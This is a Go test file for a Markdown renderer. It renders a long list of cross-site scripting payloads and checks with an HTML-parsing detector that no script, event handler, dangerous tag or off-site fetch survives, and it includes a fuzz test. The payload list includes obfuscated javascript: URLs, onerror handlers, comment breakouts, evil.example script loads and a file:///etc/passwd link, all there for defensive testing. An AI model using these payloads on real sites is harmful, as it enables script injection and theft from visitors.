package markdown

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// activeContent returns what in a page could run, fetch or dress up, or "".
func activeContent(markup string) string {
	root, err := html.Parse(strings.NewReader("<body><main>" + markup + "</main><footer>end</footer>"))
	if err != nil {
		return err.Error()
	}
	found := ""
	mains := 0
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "html", "head", "body":
			continue
		case "main":
			mains++
			continue
		case "footer":
			if n.Parent == nil || n.Parent.Data != "body" {
				found = "the text breaks out of its element"
			}
			continue
		case "script", "style", "iframe", "object", "embed", "form", "svg", "math", "base", "link", "meta", "template", "title",
			"textarea", "select", "button", "frame", "frameset", "noscript", "plaintext", "xmp", "marquee", "h1":
			found = "<" + n.Data + ">"
		}
		for _, a := range n.Attr {
			name := strings.ToLower(a.Key)
			switch {
			case strings.HasPrefix(name, "on"), name == "style", name == "srcdoc", name == "formaction", name == "xlink:href", name == "background", name == "ping":
				found = name
			case (name == "href" || name == "src") && !allowedAddress(a.Val):
				found = a.Val
			case name == "src" && !localAddress(a.Val):
				found = "fetches " + a.Val
			case name == "id" && strings.HasPrefix(a.Val, "_"):
				found = "id of the interface"
			}
		}
	}
	if mains != 1 {
		return "more than one main"
	}
	return found
}

// hostileTexts are attacks written in Markdown and in HTML.
func hostileTexts() []string {
	list := []string{
		"<javascript:alert(1)>", "<JaVaScRiPt:alert(1)>", "<vbscript:x>", "<data:text/html,<script>alert(1)</script>>",
		"![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "[a]: javascript:alert(1)\n\n[a] ![a]",
		"[a]: <java&#115;cript:alert(1)>\n\n[a]", "![\" onerror=\"alert(1)](bridge.jpg)", "[x](other.md \"\\\" onmouseover=\\\"alert(1)\")",
		"![x](bridge.jpg '\" onload=\"x')", "# x {onclick=alert(1) style=color:red}", "# x {#_main .site-header}", "# _app",
		"x\n{: onclick=alert(1) }", "![x](bridge.jpg){onerror=alert(1)}", "```\"><script>alert(1)</script>\nx\n```", "``` a\"onclick=x\nx\n```",
		"`<script>alert(1)</script>`", "    <script>alert(1)</script>", "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
		"a <script>alert(1)</script> b", "<img src=x onerror=alert(1)>", "<img src=\"bridge.jpg\" srcset=\"//evil.example/x 2x\">",
		"<a href=\"jav\tascript:alert(1)\">x</a>", "<a href=\"&#1;javascript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>",
		"<a href=javascript&colon;alert(1)>x</a>", "<svg><script>alert(1)</script></svg>", "<svg onload=alert(1)>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
		"<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe src=javascript:alert(1)></iframe>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
		"<form action=javascript:alert(1)><input type=submit><button formaction=javascript:alert(1)>x</button></form>",
		"<style>@import '//evil.example'</style>", "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0>", "<base href=//evil.example>",
		"<div style=\"position:fixed\">x</div>", "<p id=_app>x</p>", "<div class=site-header data-swap=main>x</div>",
		"</main></article></body><script>alert(1)</script>", "</div></div></div></main>", "<main>x</main>", "<h1>x</h1>", "<title>x</title>", "<textarea><img src=x onerror=alert(1)></textarea>",
		"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><img src=x onerror=alert(1)></template>",
		"<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml x><img src=x onerror=alert(1)>",
		"<video src=//evil.example/v onerror=alert(1)><source src=//evil.example/x></video>", "<audio src=x onerror=alert(1)>", "<details ontoggle=alert(1) open>x</details>",
		"<table background=javascript:alert(1)><tr><td>x", "<b/onclick=alert(1)>x", "<p>x\n\n<div>\n\n- y\n\n</p></div></ul>", "<xmp><script>alert(1)</script></xmp>", "<plaintext>x",
		"{{ \"><script>alert(1)</script>\" }}", "!!! note \"<script>alert(1)</script>\"\n    x", "> [!NOTE]\n> <script>alert(1)</script>",
		"[^1]\n\n[^1]: <img src=x onerror=alert(1)>", "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
		"<a href=\"https://a.example\" target=_blank onclick=x>x</a>", "<img src=https://evil.example/pixel.gif>", "![x](https://evil.example/pixel.gif)",
	}
	for _, scheme := range []string{"javascript:alert(1)", "JAVASCRIPT:alert(1)", "javascript&#58;alert(1)", "javascript&colon;alert(1)", "java&Tab;script:alert(1)",
		"&#106;avascript:alert(1)", "\\javascript:alert(1)", "%6Aavascript:alert(1)", "vbscript:x", "data:text/html,x", "blob:https://a.example/x", "file:///etc/passwd",
		"//evil.example/x", "\\\\evil.example/x", "/\\evil.example/x", "view-source:x", "ms-msdt:x", "intent:x", "filesystem:x", "livescript:x", "about:blank"} {
		list = append(list, "["+"x"+"]("+scheme+")", "[x](<"+scheme+">)", "<"+scheme+">", "![x]("+scheme+")", "[x]\n\n[x]: "+scheme, "<a href=\""+scheme+"\">x</a>", "<img src=\""+scheme+"\">")
	}
	return list
}

// trusting is a resolver that lets everything pass.
type trusting struct{ library }

func (trusting) Link(destination string) Link { return Link{Href: destination} }

// TestNothingActive renders attacks and parses the page as a browser does.
func TestNothingActive(t *testing.T) {
	if activeContent("<p onclick=x>") == "" || activeContent("</main><script>x</script>") == "" || activeContent("<a href='javascript:x'>") == "" {
		t.Fatal("the test does not see what it should")
	}
	r := New()
	for _, text := range hostileTexts() {
		for _, resolver := range []Resolver{trusting{}, nil} {
			for _, plain := range []bool{false, true} {
				doc, _ := r.Render(Source{File: "a.md", Text: []byte(text), FirstLine: 1, Lang: "en", Plain: plain}, resolver)
				if doc == nil {
					continue
				}
				markup := doc.HTML.String()
				if found := activeContent(markup); found != "" {
					t.Errorf("plain %v, of %q\ngot %s\nwhich has %s", plain, text, markup, found)
				}
			}
		}
	}
}

// TestSanitizerChangesNothingOfOurs checks that the second gate agrees with the
// writer: a page with a tag of the author's differs only by that tag.
func TestSanitizerChangesNothingOfOurs(t *testing.T) {
	text := "# T\n\nА [б](other.md#я \"в\") ![г](bridge.jpg \"д\") `е`\n\n![ж](bridge.jpg \"з\")\n\n- [x] и\n\n|к|\n|:-:|\n|л|\n\n```go\nfunc x() {}\n```\n\n> [!NOTE]\n> м\n\nн[^1]\n\n[^1]: о\n\n2. п\n"
	r := New()
	bare, _ := r.Render(Source{Text: []byte(text), Lang: "ru"}, library{})
	tagged, _ := r.Render(Source{Text: []byte(text + "\n<div></div>\n"), Lang: "ru"}, library{})
	normal := func(s string) string {
		context := &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div}
		nodes, err := html.ParseFragment(strings.NewReader(s), context)
		if err != nil {
			t.Fatal(err)
		}
		var b strings.Builder
		for _, n := range nodes {
			if err := html.Render(&b, n); err != nil {
				t.Fatal(err)
			}
		}
		return strings.Join(strings.Fields(b.String()), " ")
	}
	want := normal(bare.HTML.String())
	got := strings.Join(strings.Fields(strings.Replace(normal(tagged.HTML.String()), "<div></div>", "", 1)), " ")
	if got != want {
		t.Errorf("the sanitizer changes what the writer puts out:\n got %s\nwant %s", got, want)
	}
}

// FuzzRender checks that no text makes Render panic or puts anything active out.
func FuzzRender(f *testing.F) {
	for _, text := range hostileTexts() {
		f.Add([]byte(text), false)
	}
	for _, text := range []string{"# Т\n\nАбзац \"в кавычках\" - и *так*.\n", "\xEF\xBB\xBF# a\r\nb\rc", "\xFF\xFEa\x00", "[a](b", "- - - -\n\n x", "a\n{: .b #c}", "[x]({{ \"/a\" | url }})", "`", "\\", "{", "&#0;",
		"{% a\n b %} {{ c }}\n{:.d}\n\n# {% e %}", "<p markdown=\"1\">{{ a }} [b](c(d) \"e\")", "<!-- a\n\nb", "\x1b[31m `\u0085` <b title=\"\x07\">&#27;", "[a](b) [c](#) [d](http://e)"} {
		f.Add([]byte(text), true)
		f.Add([]byte(text), false)
	}
	r := New()
	f.Fuzz(func(t *testing.T, text []byte, plain bool) {
		doc, problems := r.Render(Source{File: "a.md", Text: text, FirstLine: 1, Lang: "ru", Plain: plain}, trusting{})
		if doc == nil && len(problems) == 0 {
			t.Errorf("refused without a reason: %q", text)
		}
		if doc != nil {
			if found := activeContent(doc.HTML.String()); found != "" {
				t.Errorf("of %q\ngot %s\nwhich has %s", text, doc.HTML.String(), found)
			}
			for _, s := range []string{doc.HTML.String(), doc.Text, doc.Title, doc.Summary} {
				if hasControls(s) {
					t.Errorf("of %q\ngot %q\nwhich has control characters", text, s)
				}
			}
		}
	})
}
